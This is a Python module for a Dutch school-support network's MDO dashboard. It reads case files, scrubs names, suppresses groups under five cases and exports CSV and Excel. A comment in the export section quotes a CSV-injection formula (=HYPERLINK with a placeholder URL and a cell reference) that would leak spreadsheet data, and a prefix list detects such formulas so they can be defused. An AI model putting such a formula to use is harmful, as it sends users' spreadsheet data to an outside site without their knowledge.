"""The network's figures for coordinators: read lean from the case files (only what the figures
need, never a name or code), cached by each file's modification time, aggregated with the
"fewer than 5 cases is shown as < 5" rule built in."""

from __future__ import annotations

import datetime as dt
import gc
import io
import os
import threading
from collections.abc import Hashable, Iterable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

import orjson
import pandas as pd

from hgs import analytics, method, steps, texts, themes
from hgs.i18n import Labels, format_number, language, t, using
from hgs.method import CHECK_TITLES, DEFAULT_CORE_MAX, PRINCIPLES
from hgs.model import ROLE_GROUPS, SCHEMA_VERSION

MIN_CASES = 5
SMALL = "< 5"
KINDS = Labels("netwerk.mdo_soorten", ("eerste", "evaluatie"))  # "eerste MDO" / "first MDO"
# The model's values in the tables' cells, in the session's language (Dutch: the values as they are)
TEXT_KINDS = Labels("netwerk.soorten", ("top", "tip", "behoefte"))
GIVER_NAMES = Labels("netwerk.groepen", ("school", "ouders", "kind", "professionals"))
# How a principle "shows" in an evaluation: a top or tip that uses one of these word stems.
# Honest and simple on purpose; the page's help text lists them.
PRINCIPLE_WORDS = {
    1: ("doel", "evalu", "voortgang", "vooruitgang", "resultaat", "score"),
    2: ("nodig", "behoefte", "kind zelf", "stem van", "eigen woorden", "gehoord"),
    3: ("ondersteun", "hulp bij", "handvat", "tips voor de leerkracht", "coach"),
    4: ("wisselwerking", "afstem", "samenhang", "thuis en school", "school en thuis"),
    5: ("sterk", "positief", "compliment", "wat goed gaat", "gaat goed", "trots", "succes"),
    6: ("samen", "ouders", "rol", "meedenken", "betrokken", "iedereen", "partner"),
    7: ("afspra", "duidelijk", "voorbereid", "agenda", "transparant", "op tijd", "gouden mail"),
}


# -- reading: one lean record per case file ----------------------------------------------------
@dataclass
class CaseFacts:
    """What the dashboard needs of one case; `names` only serves to scrub free text."""
    organisation_id: str
    meetings: list[dict] = field(default_factory=list)
    agreements: list[dict] = field(default_factory=list)
    goals: list[dict] = field(default_factory=list)
    texts: list[dict] = field(default_factory=list)  # tops, tips and needs, names removed
    names: frozenset[str] = frozenset()


def _scrub(text: str, names: frozenset[str]) -> str:
    """Free text with every word that is the case's first name or code replaced."""
    lowered = text.lower()
    if not any(name in lowered for name in names):
        return text  # most texts name no one: nothing to look for word by word
    out = []
    for token in text.split():
        core = token.strip(".,;:!?()'\"").lower()
        out.append("[naam]" if core in names or core.removesuffix("'s") in names else token)
    return " ".join(out)


def read_case(raw: bytes) -> CaseFacts | None:
    """The lean facts of one case file (TinyDB's JSON); None for a file that is not a case."""
    data = orjson.loads(raw)
    case = (data.get("case") or {}).get("1")
    if not case or data.get("meta", {}).get("1", {}).get("schema", 0) > SCHEMA_VERSION:
        return None
    return case_facts(case, list((data.get("meetings") or {}).values()))


def case_facts(case: dict, meetings: list[dict]) -> CaseFacts:
    """The lean facts of one case from its raw documents, as stored (dates as ISO text)."""
    names = frozenset(n.lower() for n in (case.get("first_name", ""), case.get("code", "")) if n)
    facts = CaseFacts(organisation_id=case.get("organisation_id", ""), names=names)
    # A cancelled MDO, or one with nothing of its own in any step, did not take place: it and
    # what it holds (carried-over agreements and goals too) are left out (one rule, in steps).
    by_id = {m.get("id"): m for m in meetings}
    meetings = sorted((m for m in meetings
                       if steps.counts_as_held(m, by_id.get(m.get("previous_id")))),
                      key=lambda m: m.get("date", ""))
    goal_scores = analytics.goal_scores_raw(meetings)
    for meeting in meetings:
        date = dt.date.fromisoformat(meeting["date"])
        present = [p for p in meeting.get("participants", []) if p.get("present", True)]
        groups = [ROLE_GROUPS.get(p.get("role"), "extern") for p in present]
        checked = method.document_facts(meeting)  # the method checks decide on these
        facts.meetings.append({
            "date": date, "kind": meeting.get("kind", "eerste"),
            "parents": "ouders" in groups,
            "child_voice": method.child_voice_ok(checked),
            "participants": checked.present,
            "research": meeting.get("research_needed") is True,
            "rating": meeting.get("rating"),
            "t_score": goal_scores["t_scores"].get(meeting["id"]),
            # the core table's check needs the network's threshold: applied when counting
            **{f"ok_{name}": rule(checked) for name, rule in method.RULES.items()},
        })
        for item in meeting.get("tops_tips", []):
            if item.get("text"):
                facts.texts.append({"date": date, "kind": item["kind"],
                                    "group": item.get("group", "professionals"),
                                    "text": _scrub(item["text"], names)})
        for need in meeting.get("needs", []):
            if need.get("more_pupils") and need.get("text"):
                facts.texts.append({"date": date, "kind": "behoefte", "group": "",
                                    "text": _scrub(need["text"], names)})
    latest: dict[str, dict] = {}
    for meeting in meetings:
        for a in meeting.get("agreements", []):
            latest[a["id"]] = {"due": a.get("due"), "status": a.get("status", "open"),
                               "made": dt.date.fromisoformat(meeting["date"])}
    facts.agreements = [{**a, "due": dt.date.fromisoformat(a["due"]) if a["due"] else None}
                        for a in latest.values()]
    facts.goals = goal_scores["goals"]
    return facts


class CaseFiles:
    """Where a NetworkCache reads a data folder: its case files, each stamped by its
    modification time and size."""

    def __init__(self, data_dir: str | os.PathLike) -> None:
        self.cases_dir = Path(data_dir) / "cases"

    def stamps(self) -> dict[str, Hashable]:
        try:
            entries = list(os.scandir(self.cases_dir))
        except FileNotFoundError:
            return {}
        stamps = {}
        for entry in entries:
            if entry.name.endswith(".json") and not entry.name.startswith("."):
                stat = entry.stat()
                stamps[entry.name] = (stat.st_mtime_ns, stat.st_size)
        return stamps

    def read(self, stale: dict[str, Hashable]) -> Iterator[tuple[str, Hashable, CaseFacts | None]]:
        for name, stamp in stale.items():
            try:
                facts = read_case((self.cases_dir / name).read_bytes())
            except (OSError, ValueError, KeyError, TypeError):
                facts = None  # a damaged file is left out of the figures, not fatal
            yield name, stamp, facts


@contextmanager
def _no_cycle_collection() -> Iterator[None]:
    """Python's cycle collector paused while case files are read: a cold read makes millions of
    small objects without a single cycle, and in a large process each full collection walks the
    whole heap again (a third of a cold read of 10,000 MDOs)."""
    was_enabled = gc.isenabled()
    gc.disable()
    try:
        yield
    finally:
        if was_enabled:
            gc.enable()


class NetworkCache:
    """Case facts of a network, re-read only for cases whose stamp changed. `source` is a data
    folder (its case files, see CaseFiles) or any object with the same `stamps()` and
    `read(stale)`, such as hgs.pgstore.CaseRows for PostgreSQL."""

    def __init__(self, source: str | os.PathLike | CaseFiles) -> None:
        self.source = CaseFiles(source) if isinstance(source, (str, os.PathLike)) else source
        self._lock = threading.Lock()
        self._facts: dict[str, tuple[Hashable, CaseFacts | None]] = {}
        self._frames: Frames | None = None
        self._memo = TextMemo()
        self.reads = 0  # cases parsed since the cache was made (for tests and benchmarks)

    def frames(self, organisations: dict[str, tuple[str, str]]) -> Frames:
        """The network as frames; `organisations` maps id -> (name, sector)."""
        with self._lock:
            changed = self._refresh()
            if changed or self._frames is None or self._frames.organisations != organisations:
                self._frames = build_frames(
                    [f for _, f in self._facts.values() if f is not None], organisations,
                    self._memo)
            return self._frames

    def _refresh(self) -> bool:
        stamps = self.source.stamps()
        stale = {key: stamp for key, stamp in stamps.items()
                 if key not in self._facts or self._facts[key][0] != stamp}
        with _no_cycle_collection():
            for key, stamp, facts in self.source.read(stale):
                self.reads += 1
                self._facts[key] = (stamp, facts)
        gone = set(self._facts) - set(stamps)
        for key in gone:
            del self._facts[key]
        return bool(stale or gone)


# -- frames -----------------------------------------------------------------------------------
class TextMemo:
    """Phrases and principles of each distinct text, worked out once and kept with the cache:
    the Tops-en-tips tab then reruns on counts alone."""

    def __init__(self) -> None:
        self._phrases: dict[str, frozenset[str]] = {}
        self._principles: dict[str, tuple[int, ...]] = {}
        self._drop: frozenset[str] = frozenset()

    def phrases(self, text: str, drop: frozenset[str]) -> frozenset[str]:
        if drop is not self._drop and drop != self._drop:  # cases changed, names with them
            self._phrases, self._drop = {}, drop
        found = self._phrases.get(text)
        if found is None:
            found = self._phrases[text] = frozenset(themes.phrases(text, drop))
        return found

    def principles(self, text: str) -> tuple[int, ...]:
        found = self._principles.get(text)
        if found is None:
            lowered = text.lower()
            found = self._principles[text] = tuple(
                n for n, stems in PRINCIPLE_WORDS.items() if any(s in lowered for s in stems))
        return found


@dataclass
class Frames:
    organisations: dict[str, tuple[str, str]]
    meetings: pd.DataFrame
    agreements: pd.DataFrame
    goals: pd.DataFrame
    texts: pd.DataFrame
    drop_words: frozenset[str]
    memo: TextMemo = field(default_factory=TextMemo)


def build_frames(facts: list[CaseFacts], organisations: dict[str, tuple[str, str]],
                 memo: TextMemo | None = None) -> Frames:
    """One row per meeting / agreement / goal / text, each with an anonymous case number."""
    def frame(attr: str, columns: list[str]) -> pd.DataFrame:
        base = ["case", "organisation", "sector"]
        data: dict[str, list] = {column: [] for column in base + columns}
        for number, f in enumerate(facts):  # column by column: quicker than a dict per row
            name, sector = organisations.get(f.organisation_id, ("onbekend", "overig"))
            rows = getattr(f, attr)
            data["case"] += [number] * len(rows)
            data["organisation"] += [name] * len(rows)
            data["sector"] += [sector] * len(rows)
            for column in columns:
                data[column] += [row.get(column) for row in rows]
        result = pd.DataFrame(data, columns=base + columns)
        if "date" in result:
            result["date"] = pd.to_datetime(result["date"])
        return result

    return Frames(
        organisations=organisations,
        meetings=frame("meetings", ["date", "kind", "parents", "child_voice", "participants",
                                    "research", "rating", "t_score",
                                    *(f"ok_{name}" for name in method.RULES)]),
        agreements=frame("agreements", ["due", "status", "made"]),
        goals=frame("goals", ["goal", "first_date", "last_date", "start", "target", "first",
                              "last", "level"]),
        texts=frame("texts", ["date", "kind", "group", "text"]),
        drop_words=frozenset({"naam"}).union(*(f.names for f in facts)),
        memo=memo or TextMemo(),
    )


# -- filters ----------------------------------------------------------------------------------
@dataclass(frozen=True)
class Filter:
    start: dt.date | None = None
    end: dt.date | None = None
    sectors: tuple[str, ...] = ()
    organisations: tuple[str, ...] = ()
    kind: str | None = None  # "eerste", "evaluatie" or None for both
    period: str = "Q"  # "M" month or "Q" quarter


def _within(frame: pd.DataFrame, flt: Filter, date_col: str = "date") -> pd.DataFrame:
    mask = pd.Series(True, index=frame.index)
    if flt.start:
        mask &= frame[date_col] >= pd.Timestamp(flt.start)
    if flt.end:
        mask &= frame[date_col] <= pd.Timestamp(flt.end)
    if flt.sectors:
        mask &= frame.sector.isin(flt.sectors)
    if flt.organisations:
        mask &= frame.organisation.isin(flt.organisations)
    return frame[mask]


def filtered(frames: Frames, flt: Filter) -> Frames:
    meetings = _within(frames.meetings, flt)
    if flt.kind:
        meetings = meetings[meetings.kind == flt.kind]
    agreements = _within(frames.agreements.assign(date=pd.to_datetime(frames.agreements.made)),
                         flt)
    goals = _within(frames.goals.assign(date=pd.to_datetime(frames.goals.last_date)), flt)
    texts = _within(frames.texts, flt)
    return Frames(frames.organisations, meetings, agreements, goals, texts, frames.drop_words,
                  frames.memo)


def period_label(date: pd.Series, period: str) -> pd.Series:
    """ "2026-03" for a month; "2026-K1" / "2026-Q1" for a quarter (they sort as they read)."""
    if period == "M":
        return date.dt.strftime("%Y-%m")
    return date.dt.year.astype(str) + t("netwerk.kwartaal_teken") + date.dt.quarter.astype(str)


# -- aggregates, with the small-group rule ------------------------------------------------------
def suppress(table: pd.DataFrame, value_columns: Iterable[str]) -> pd.DataFrame:
    """Every value of a row that counts fewer than MIN_CASES cases becomes "< 5"."""
    table = table.copy()
    small = table["casussen"] < MIN_CASES
    for column in [*value_columns, "casussen"]:
        table[column] = table[column].astype(object)
        table.loc[small, column] = SMALL
    return table


GROUP_NAMES = {"period": "periode", "sector": "sector", "organisation": "organisatie"}


def _named(table: pd.DataFrame, by: str) -> pd.DataFrame:
    return table.rename(columns={by: GROUP_NAMES.get(by, by)})


MEETING_MEASURES = {
    "MDO's": ("case", "size"),
    "ouders aanwezig (%)": ("parents", "mean"),
    "stem van het kind (%)": ("child_voice", "mean"),
    "deelnemers (mediaan)": ("participants", "median"),
    "onderzoek gevraagd (%)": ("research", "mean"),
    "rapportcijfer (gemiddeld)": ("rating", "mean"),
}


def meeting_figures(meetings: pd.DataFrame, by: str, period: str = "Q") -> pd.DataFrame:
    """Per group (`period`, `sector` or `organisation`): the meeting measures, with the number
    of distinct cases behind each row."""
    frame = meetings.assign(period=period_label(meetings.date, period)) if len(meetings) else \
        meetings.assign(period=pd.Series(dtype=str))
    columns = ["casussen", *MEETING_MEASURES]
    if frame.empty:
        return pd.DataFrame(columns=[GROUP_NAMES[by], *columns])
    grouped = frame.groupby(by, sort=True)
    table = pd.DataFrame({"casussen": grouped.case.nunique()})
    for label, (column, how) in MEETING_MEASURES.items():
        values = getattr(grouped[column], how)()
        table[label] = (values * 100).round(0) if label.endswith("(%)") else values
    table["rapportcijfer (gemiddeld)"] = table["rapportcijfer (gemiddeld)"].astype(float).round(1)
    return _named(suppress(table.reset_index(), MEETING_MEASURES), by)


def agreement_figures(agreements: pd.DataFrame, today: dt.date, by: str = "organisation",
                      period: str = "Q") -> pd.DataFrame:
    """Of the agreements whose date has passed: how many are marked done (per group)."""
    due = agreements[agreements.due.notna()]
    due = due[due.due < today]
    if due.empty:
        return pd.DataFrame(columns=[GROUP_NAMES[by], "casussen", "afspraken verlopen",
                                     "gedaan (%)"])
    due = due.assign(period=period_label(pd.to_datetime(due.due), period),
                     done=due.status == "gedaan")
    grouped = due.groupby(by)
    table = pd.DataFrame({"casussen": grouped.case.nunique(),
                          "afspraken verlopen": grouped.size(),
                          "gedaan (%)": (grouped.done.mean() * 100).round(0)})
    return _named(suppress(table.reset_index(), ["afspraken verlopen", "gedaan (%)"]), by)


def goal_figures(goals: pd.DataFrame, by: str = "sector") -> pd.DataFrame:
    """Per group: goals that improved since their first MDO and goals at or above target."""
    scored = goals[goals["last"].notna() & goals["first"].notna()
                   & (goals.first_date < goals.last_date)]
    if scored.empty:
        return pd.DataFrame(columns=[GROUP_NAMES[by], "casussen", "doelen", "vooruit (%)",
                                     "doel bereikt (%)"])
    scored = scored.assign(improved=scored["last"] > scored["first"],
                           reached=scored.level.fillna(-9) >= 0)
    grouped = scored.groupby(by)
    table = pd.DataFrame({"casussen": grouped.case.nunique(), "doelen": grouped.size(),
                          "vooruit (%)": (grouped.improved.mean() * 100).round(0),
                          "doel bereikt (%)": (grouped.reached.mean() * 100).round(0)})
    return _named(suppress(table.reset_index(), ["doelen", "vooruit (%)", "doel bereikt (%)"]),
                  by)


T_BINS = [(0, 35, "< 35"), (35, 45, "35–45"), (45, 55, "45–55"), (55, 65, "55–65"),
          (65, 200, "≥ 65")]


def t_score_distribution(meetings: pd.DataFrame) -> pd.DataFrame:
    """How many follow-up MDOs fall in each T-score band."""
    scored = meetings[meetings.t_score.notna()]
    rows = []
    for low, high, label in T_BINS:
        part = scored[(scored.t_score >= low) & (scored.t_score < high)]
        rows.append({"T-score": label, "casussen": part.case.nunique(), "MDO's": len(part)})
    return suppress(pd.DataFrame(rows), ["MDO's"])


def toptip_figures(texts: pd.DataFrame, period: str = "Q") -> pd.DataFrame:
    """Counts of tops and tips per period and by who gave them."""
    tt = texts[texts.kind.isin(["top", "tip"])]
    if tt.empty:
        return pd.DataFrame(columns=["periode", "soort", "groep", "casussen", "aantal"])
    tt = tt.assign(periode=period_label(tt.date, period))
    grouped = tt.groupby(["periode", "kind", "group"])
    table = pd.DataFrame({"casussen": grouped.case.nunique(), "aantal": grouped.size()})
    table = table.reset_index().rename(columns={"kind": "soort", "group": "groep"})
    return suppress(table, ["aantal"])


def _recurring(view: Frames, texts: pd.DataFrame, min_cases: int, limit: int = 15):
    return themes.recurring_sets(
        ((case, view.memo.phrases(text, view.drop_words))
         for case, text in zip(texts.case, texts.text)), min_cases, limit)


def themes_table(view: Frames, kind: str) -> pd.DataFrame:
    """Recurring phrases in tops or tips, each used in at least MIN_CASES cases."""
    part = view.texts[view.texts.kind == kind]
    return pd.DataFrame(_recurring(view, part, MIN_CASES), columns=["thema", "casussen"])


def shared_needs(view: Frames) -> pd.DataFrame:
    """Needs marked "meer leerlingen gebaat" whose phrases recur, per organisation, in at least
    MIN_CASES cases (a phrase from fewer cases could point at a child, so it is not shown)."""
    needs = view.texts[view.texts.kind == "behoefte"]
    rows = [{"organisatie": organisation, "behoefte (thema)": phrase, "casussen": cases}
            for organisation, part in needs.groupby("organisation")
            for phrase, cases in _recurring(view, part, MIN_CASES, limit=5)]
    return pd.DataFrame(rows, columns=["organisatie", "behoefte (thema)", "casussen"])


def shared_needs_network(view: Frames) -> pd.DataFrame:
    """The same across the whole network, with the number of organisations behind each."""
    needs = view.texts[view.texts.kind == "behoefte"]
    found = _recurring(view, needs, MIN_CASES)
    sets = [view.memo.phrases(text, view.drop_words) for text in needs.text]
    rows = []
    for phrase, cases in found:
        hit = [phrase in s for s in sets]
        rows.append({"behoefte (thema)": phrase, "casussen": cases,
                     "organisaties": needs.organisation[hit].nunique()})
    return pd.DataFrame(rows, columns=["behoefte (thema)", "casussen", "organisaties"])


def principle_figures(view: Frames) -> pd.DataFrame:
    """How often each of the 7 principles shows in the tops and tips (see PRINCIPLE_WORDS)."""
    tt = view.texts[view.texts.kind.isin(["top", "tip"])]
    hits = tt.assign(principle=[view.memo.principles(t) for t in tt.text]).explode("principle")
    hits = hits[hits.principle.notna()]
    rows = []
    for number, title in PRINCIPLES.items():
        part = hits[hits.principle == number]
        rows.append({"uitgangspunt": f"{number}. {title}", "casussen": part.case.nunique(),
                     "tops": int((part.kind == "top").sum()),
                     "tips": int((part.kind == "tip").sum())})
    return suppress(pd.DataFrame(rows), ["tops", "tips"])


# -- the method's checks: tops and tips for the network, never a ranking --------------------------
CHECKS = tuple(CHECK_TITLES)
TOP_SHARE = 75  # met in at least this share (%) of MDOs: "goes well"; below: a point of attention


def _checked(meetings: pd.DataFrame, core_max: int) -> pd.DataFrame:
    """The meetings with one yes/no column per check; the core table's with today's threshold."""
    core = [method.core_table_ok(int(n), core_max) for n in meetings.participants]
    return meetings.assign(ok_core_table=pd.Series(core, index=meetings.index, dtype=bool))


def method_overview(meetings: pd.DataFrame, core_max: int = DEFAULT_CORE_MAX) -> pd.DataFrame:
    """Per check, network-wide: the share of MDOs where it was met, as a top ("gaat goed") or a
    tip ("aandachtspunt") for the network."""
    columns = ["werkwijze", "casussen", "MDO's", "gaat goed (%)", "top of tip"]
    if meetings.empty:
        return pd.DataFrame(columns=columns)
    checked = _checked(meetings, core_max)
    cases = meetings.case.nunique()
    rows = []
    for name in CHECKS:
        share = round(float(checked[f"ok_{name}"].mean()) * 100)
        rows.append({"werkwijze": CHECK_TITLES[name], "casussen": cases, "MDO's": len(checked),
                     "gaat goed (%)": share,
                     "top of tip": t("netwerk.werkwijze.gaat_goed") if share >= TOP_SHARE
                     else t("netwerk.werkwijze.aandachtspunt")})
    return suppress(pd.DataFrame(rows, columns=columns), ["MDO's", "gaat goed (%)", "top of tip"])


def method_figures(meetings: pd.DataFrame, by: str, period: str = "Q",
                   core_max: int = DEFAULT_CORE_MAX) -> pd.DataFrame:
    """Per group (`period`, `sector` or `organisation`): per check the share of MDOs where it
    was met (%), with the number of distinct cases behind each row."""
    columns = ["casussen", "MDO's", *CHECKS]
    if meetings.empty:
        return pd.DataFrame(columns=[GROUP_NAMES[by], *columns])
    frame = _checked(meetings, core_max).assign(period=period_label(meetings.date, period))
    grouped = frame.groupby(by, sort=True)
    table = pd.DataFrame({"casussen": grouped.case.nunique(), "MDO's": grouped.size()})
    for name in CHECKS:
        table[name] = (grouped[f"ok_{name}"].mean() * 100).round(0)
    return _named(suppress(table.reset_index(), ["MDO's", *CHECKS]), by)


def headline(meetings: pd.DataFrame) -> dict:
    """The numbers at the top of the page, each None when fewer than MIN_CASES cases."""
    cases = meetings.case.nunique()
    if cases < MIN_CASES:
        return {"cases": SMALL, "meetings": SMALL, "parents": None, "child_voice": None,
                "participants": None}
    return {"cases": cases, "meetings": len(meetings),
            "parents": round(meetings.parents.mean() * 100),
            "child_voice": round(meetings.child_voice.mean() * 100),
            "participants": float(meetings.participants.median())}


def headline_cells(meetings: pd.DataFrame) -> dict[str, str]:
    """The headline numbers as shown: "93%", "5" or "5,5" in the session's language, and "< 5"
    for each of them when the selection holds fewer than MIN_CASES cases."""
    top = headline(meetings)
    percent = {"parents", "child_voice"}
    return {key: SMALL if value in (None, SMALL) else f"{value}%" if key in percent
            else format_number(value) if key == "participants" else str(value)
            for key, value in top.items()}


# -- exports ----------------------------------------------------------------------------------
def _cell(value) -> str:
    if isinstance(value, bool):
        return t("netwerk.ja") if value else t("netwerk.nee")
    if isinstance(value, (int, float)) and not pd.isna(value):
        if float(value).is_integer():
            return f"{value:.0f}"
        return f"{value:.1f}".replace(".", ",") if language() == "nl" else f"{value:.1f}"
    return "" if value is None or (isinstance(value, float) and pd.isna(value)) else str(value)


# The frames' columns keep their Dutch names (the code looks them up; in Dutch they are the
# headers); the screen and the exports show them in the session's language ([netwerk.kolommen]).
COLUMNS = Labels("netwerk.kolommen", (
    "casussen", "MDO's", "ouders aanwezig (%)", "stem van het kind (%)", "deelnemers (mediaan)",
    "onderzoek gevraagd (%)", "rapportcijfer (gemiddeld)", "periode", "sector", "organisatie",
    "afspraken verlopen", "gedaan (%)", "doelen", "vooruit (%)", "doel bereikt (%)", "T-score",
    "soort", "groep", "aantal", "thema", "behoefte (thema)", "organisaties", "uitgangspunt",
    "tops", "tips", "werkwijze", "gaat goed (%)", "top of tip",
))
# Values of the model in a table's cells, per column, in the session's language.
CELL_WORDS = {"sector": texts.SECTORS, "soort": TEXT_KINDS, "groep": GIVER_NAMES}


def column_name(column: str) -> str:
    """A column's (or measure's) name on screen: "gedaan (%)" / "done (%)"; a check's column
    is its title: "Ouders aan tafel (%)" / "Parents at the table (%)"."""
    if column in CHECK_TITLES:
        return t("netwerk.werkwijze.kolom", title=CHECK_TITLES[column])
    return COLUMNS.get(column, column)


def display_names(table: pd.DataFrame) -> pd.DataFrame:
    """The same table with its column headers in the session's language."""
    return table.rename(columns=column_name)


def table_title(group: str) -> str:
    """ "MDO per periode" / "MDOs per period": the heading of a meeting table on screen."""
    return t("netwerk.tabellen.mdo_per", group=column_name(group))


def localised(table: pd.DataFrame) -> pd.DataFrame:
    """The same table with the model's values in its cells (sector, top or tip, who gave it)
    in the session's language; in Dutch they stay as they are."""
    words = {column: labels for column, labels in CELL_WORDS.items() if column in table}
    if not words or table.empty:
        return table
    return table.assign(**{column: table[column].map(lambda v, labels=labels: labels.get(v, v))
                           for column, labels in words.items()})


def display(table: pd.DataFrame) -> pd.DataFrame:
    """Every cell as text in the session's language (7,5 / 7.5; "< 5" stays): one type per
    column for screens and CSV files."""
    return localised(table).apply(lambda column: column.map(_cell)) if not table.empty else table


# A spreadsheet reads a cell that starts with one of these as a formula (OWASP, "CSV
# injection"): an organisation named =HYPERLINK("https://…"&A2, "…") would send the
# neighbouring cell to a web site. Such a text cell gets a leading apostrophe, in the CSV and
# in the Excel file alike; numbers are not text and stay numbers, negative ones too.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def defused(value):
    """A text cell a spreadsheet would take for a formula, with a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def _defused(table: pd.DataFrame) -> pd.DataFrame:
    """The table with every text cell and header `defused`; numbers untouched."""
    return table.rename(columns=defused).apply(lambda column: column.map(defused)) \
        if not table.empty else table.rename(columns=defused)


def to_csv(table: pd.DataFrame, lang: str | None = None) -> bytes:
    """With a byte-order mark, so it opens as-is in Excel. Dutch: semicolons and decimal commas,
    Dutch headers; English: commas and decimal points, English headers. `lang` defaults to the
    session's (a download button made later, outside the session, passes it). No cell starts
    a formula (`defused`)."""
    with using(lang or language()):
        # defused before the numbers become text: "-3" from a number stays -3; a carriage
        # return inside a cell as a line break, which the writer quotes (it does not quote \r)
        cells = display(_defused(table)).replace("\r\n?", "\n", regex=True)
        text = display_names(cells).to_csv(index=False, sep=";" if language() == "nl" else ",")
    return text.encode("utf-8-sig")


def to_excel(tables: dict[str, pd.DataFrame], lang: str | None = None) -> bytes:
    """One sheet per table, its name and headers in `lang` (default: the session's); no cell is
    a formula (`defused`: openpyxl writes a text that starts with = as one)."""
    buffer = io.BytesIO()
    with using(lang or language()), pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        for name, table in tables.items():
            _defused(display_names(localised(table))).to_excel(
                writer, sheet_name=SHEETS.get(name, name)[:31], index=False)
    return buffer.getvalue()


# The page's tables by their (Dutch) sheet names; SHEETS gives the names in the session's language
SHEETS = Labels("netwerk.bladen", (
    "MDO per periode", "MDO per sector", "MDO per organisatie", "Afspraken", "Doelen per sector",
    "T-scores", "Tops en tips", "Thema's tops", "Thema's tips", "Behoeften per organisatie",
    "Behoeften netwerk", "Uitgangspunten", "Werkwijze", "Werkwijze per organisatie",
))


def dashboard(view: Frames, period: str, today: dt.date,
              core_max: int = DEFAULT_CORE_MAX) -> dict[str, pd.DataFrame]:
    """Every table of the Netwerk page for one filtered view, by its (Dutch sheet) name."""
    return {
        "MDO per periode": meeting_figures(view.meetings, "period", period),
        "MDO per sector": meeting_figures(view.meetings, "sector", period),
        "MDO per organisatie": meeting_figures(view.meetings, "organisation", period),
        "Afspraken": agreement_figures(view.agreements, today, "organisation", period),
        "Doelen per sector": goal_figures(view.goals, "sector"),
        "T-scores": t_score_distribution(view.meetings),
        "Tops en tips": toptip_figures(view.texts, period),
        "Thema's tops": themes_table(view, "top"),
        "Thema's tips": themes_table(view, "tip"),
        "Behoeften per organisatie": shared_needs(view),
        "Behoeften netwerk": shared_needs_network(view),
        "Uitgangspunten": principle_figures(view),
        "Werkwijze": method_overview(view.meetings, core_max),
        "Werkwijze per organisatie": method_figures(view.meetings, "organisation", period,
                                                    core_max),
    }


def workbook(view: Frames, period: str, today: dt.date, core_max: int, lang: str) -> bytes:
    """The Excel export of the page in `lang`: every table worked out in that language (the
    page asks for it later, outside the session, when the button is clicked)."""
    with using(lang):
        return to_excel(dashboard(view, period, today, core_max))
